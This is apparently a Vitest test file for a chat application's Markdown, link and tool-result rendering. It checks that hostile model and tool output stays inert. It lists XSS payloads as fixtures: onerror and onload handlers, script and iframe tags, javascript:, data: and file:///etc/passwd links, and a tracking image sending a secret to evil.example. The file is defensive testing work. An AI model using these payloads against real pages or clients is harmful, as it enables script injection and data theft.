// @vitest-environment happy-dom
/**
 * Model and server text is untrusted: Markdown renders without raw HTML, links only to
 * http(s)/mailto (opened outside the app after a check), no image is ever loaded from a URL, and
 * tool results are text. Each test renders hostile input and walks the DOM for anything that could
 * run: an on* attribute, a javascript: URL, a <script>, an <img> pointing anywhere.
 */
import { act, cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { ChatToolCall } from '../../../preload/contract';
import { LinkOpenerContext, Markdown, markdownParses } from '../../../renderer/src/features/chat/Markdown';
import { safeHref } from '../../../renderer/src/features/chat/safe-url';
import { ToolCallCard } from '../../../renderer/src/features/chat/ToolCallCard';
import { ToolResultView } from '../../../renderer/src/features/chat/ToolResultView';
import { imageSource } from '../../../renderer/src/lib/image-source';
import { dangerousAttributes } from './dom-helpers';

afterEach(cleanup);

const HOSTILE = [
  'Hello <img src=x onerror="window.__pwned=1"> there',
  '<script>window.__pwned=2</script>',
  '<a href="javascript:window.__pwned=3">raw link</a>',
  '[click me](javascript:window.__pwned=4)',
  '[upper](JAVASCRIPT:window.__pwned=5)',
  '[spaced]( javascript:alert(1))',
  '[entity](jav&#x61;script:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '[file](file:///etc/passwd)',
  '[relative](#/settings)',
  '![tracker](https://evil.example/pixel.png?q=secret)',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload="window.__pwned=6"><circle r=1 /></svg>',
  '<div style="background:url(javascript:alert(1))" onclick="alert(1)">styled</div>',
  '[ok](https://example.com/docs) and <https://example.org> and [mail](mailto:someone@example.com)',
].join('\n\n');

describe('Markdown (model text)', () => {
  it('renders GitHub-flavoured Markdown', () => {
    const { container } = render(<Markdown text={'**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~'} />);
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('table td')?.textContent).toBe('1');
    expect(container.querySelector('del')?.textContent).toBe('gone');
  });

  it('renders hostile HTML and links inert: no on* attribute, no script URL, no script or frame, no image loaded', () => {
    const { container } = render(<Markdown text={HOSTILE} />);
    expect(dangerousAttributes(container)).toEqual([]);
    for (const tag of ['script', 'iframe', 'img', 'svg', 'object', 'embed', 'style']) expect(container.querySelector(tag)).toBeNull();
    // Raw HTML is shown as the characters it is.
    expect(container.textContent).toContain('<img src=x onerror="window.__pwned=1">');
    expect(container.textContent).toContain('<script>window.__pwned=2</script>');
    // Only the three safe links are links, and each opens outside the app without an opener.
    const links = [...container.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/docs', 'https://example.org/', 'mailto:someone@example.com']);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
    // The refused links keep their text (the person still reads what the model wrote).
    expect(screen.getByText('click me').tagName).toBe('SPAN');
    expect(container.textContent).toContain('[image: tracker]');
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it('hands a clicked link to the check instead of navigating', () => {
    const open = vi.fn();
    render(
      <LinkOpenerContext.Provider value={open}>
        <Markdown text="[the docs](https://example.com/a?b=1)" />
      </LinkOpenerContext.Provider>,
    );
    const link = screen.getByRole('link', { name: 'the docs' });
    const event = new MouseEvent('click', { bubbles: true, cancelable: true });
    act(() => {
      link.dispatchEvent(event);
    });
    expect(event.defaultPrevented).toBe(true);
    expect(open).toHaveBeenCalledWith('https://example.com/a?b=1');
  });
});

describe('Markdown parses each message once', () => {
  // The parse measures leave the page's timeline once written (#33.10): Markdown counts its parses itself.
  const parses = () => markdownParses();

  it('shows a message again (its row scrolled away and back) without parsing it again', () => {
    const before = parses();
    const first = render(<Markdown text={'# Plan\n\n- one\n- `two`'} cacheKey="turn-1:2" />);
    expect(first.container.querySelector('h1')?.textContent).toBe('Plan');
    first.unmount();
    const again = render(<Markdown text={'# Plan\n\n- one\n- `two`'} cacheKey="turn-1:2" />);
    expect(again.container.querySelector('h1')?.textContent).toBe('Plan');
    expect(again.container.querySelectorAll('li')).toHaveLength(2);
    expect(parses() - before).toBe(1);
  });

  it('parses a message again when its text changed (a streaming answer), and keeps only its newest text', () => {
    const before = parses();
    const view = render(<Markdown text="Partial" cacheKey="turn-2:1" />);
    view.rerender(<Markdown text="Partial answer, **whole**" cacheKey="turn-2:1" />);
    expect(view.container.querySelector('strong')?.textContent).toBe('whole');
    view.unmount();
    render(<Markdown text="Partial answer, **whole**" cacheKey="turn-2:1" />);
    expect(parses() - before).toBe(2);
  });

  it('shows a row first seen as written and parses it in a later render; a row seen before renders parsed at once', () => {
    const before = parses();
    const text = '# Plan\n\n- one\n- `two`';
    // The first render of a message not parsed yet (what renderToStaticMarkup sees): its text as written, nothing parsed.
    const first = renderToStaticMarkup(<Markdown text={text} cacheKey="turn-3:2" deferFirstParse />);
    expect(first).toContain('md--plain');
    expect(first).not.toContain('<h1>');
    expect(parses() - before).toBe(0);
    // In the page, the deferred render follows and parses it, once.
    const view = render(<Markdown text={text} cacheKey="turn-3:2" deferFirstParse />);
    expect(view.container.querySelector('h1')?.textContent).toBe('Plan');
    expect(view.container.querySelector('.md--plain')).toBeNull();
    expect(parses() - before).toBe(1);
    view.unmount();
    // Scrolled back into view: parsed already, so its first render is the parsed one.
    const again = renderToStaticMarkup(<Markdown text={text} cacheKey="turn-3:2" deferFirstParse />);
    expect(again).toContain('<h1>Plan</h1>');
    expect(again).not.toContain('md--plain');
    expect(parses() - before).toBe(1);
  });
});

describe('safeHref', () => {
  it.each([
    ['https://example.com', 'https://example.com/'],
    ['http://example.com/x', 'http://example.com/x'],
    ['mailto:a@example.com', 'mailto:a@example.com'],
    ['javascript:alert(1)', ''],
    [' JavaScript:alert(1)', ''],
    ['data:text/html,<b>x</b>', ''],
    ['file:///etc/passwd', ''],
    ['vscode://open', ''],
    ['/relative', ''],
    ['#/settings', ''],
    ['not a url', ''],
  ])('%s → %s', (input, expected) => {
    expect(safeHref(input)).toBe(expected);
  });
});

describe('tool results and descriptions', () => {
  const hostileResult = {
    content: [
      { type: 'text', text: '<img src=x onerror="window.__pwned=7"> [x](javascript:alert(1)) <script>alert(1)</script>' },
      { type: 'image', mimeType: 'image/svg+xml', data: btoa('<svg onload="alert(1)"/>') },
      { type: 'image', mimeType: 'image/png', data: 'iVBORw0KGgo=" onerror="alert(1)' },
      { type: 'image', mimeType: 'image/png', data: 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==' },
      { type: 'resource_link', uri: 'javascript:alert(1)', name: '<b onmouseover=alert(1)>link</b>' },
      { type: 'resource', resource: { uri: 'fixture://x', text: '<iframe src=javascript:alert(1)>' } },
      { type: 'weird', html: '<img src=x onerror=alert(1)>' },
    ],
    structuredContent: { '<img src=x onerror=alert(1)>': '<script>alert(1)</script>' },
    isError: false,
  };

  it('renders every part of a hostile result as text or inert data', () => {
    const { container } = render(<ToolResultView result={hostileResult} onAttach={() => undefined} />);
    expect(dangerousAttributes(container)).toEqual([]);
    expect(container.querySelector('script, iframe, svg, a')).toBeNull();
    // The one image shown is the valid PNG, inline as data; the SVG and the broken one are not.
    const images = [...container.querySelectorAll('img')];
    expect(images).toHaveLength(1);
    expect(images[0]!.getAttribute('src')).toMatch(/^data:image\/png;base64,iVBOR/);
    expect(container.textContent).toContain('<img src=x onerror="window.__pwned=7">');
    expect(container.textContent).toContain('<b onmouseover=alert(1)>link</b>');
    expect(container.textContent).toContain('<iframe src=javascript:alert(1)>');
    // Structured content as a table of text.
    expect(screen.getByRole('cell', { name: '<script>alert(1)</script>' })).toBeTruthy();
  });

  it('accepts only raster images as inline base64', () => {
    expect(imageSource('image/png', 'AAAA')).toBe('data:image/png;base64,AAAA');
    expect(imageSource('IMAGE/JPEG', 'AA AA\n')).toBe('data:image/jpeg;base64,AAAA');
    expect(imageSource('image/svg+xml', 'AAAA')).toBeUndefined();
    expect(imageSource('text/html', 'AAAA')).toBeUndefined();
    expect(imageSource('image/png', 'https://evil.example/x.png')).toBeUndefined();
    expect(imageSource('image/png', 'AA"onerror=')).toBeUndefined();
  });

  it('shows a tool card with hostile arguments, name and result inert', () => {
    const call: ChatToolCall = {
      id: 'c1',
      name: 'evil__<img src=x onerror=alert(1)>',
      server: '<b onclick=alert(1)>evil</b>',
      tool: '<img src=x onerror=alert(1)>',
      arguments: { text: '<script>alert(1)</script>', url: 'javascript:alert(1)' },
      status: 'done',
      result: hostileResult,
      startedAt: 1,
      endedAt: 2,
    };
    const { container } = render(<ToolCallCard call={call} />);
    expect(dangerousAttributes(container)).toEqual([]);
    // The card's own icons are lucide SVGs; nothing the server sent becomes markup.
    expect(container.querySelector('script, iframe, svg:not(.lucide), a')).toBeNull();
    const card = screen.getByRole('article', { name: 'Tool call <b onclick=alert(1)>evil</b> › <img src=x onerror=alert(1)>' });
    fireEvent.click(within(card).getByRole('button', { expanded: false, name: /evil/ }));
    expect(dangerousAttributes(container)).toEqual([]);
    expect(container.querySelector('script, iframe, svg:not(.lucide), a')).toBeNull();
    expect(within(card).getAllByRole('group', { name: 'Arguments' })[0]!.textContent).toContain('javascript:alert(1)');
  });
});
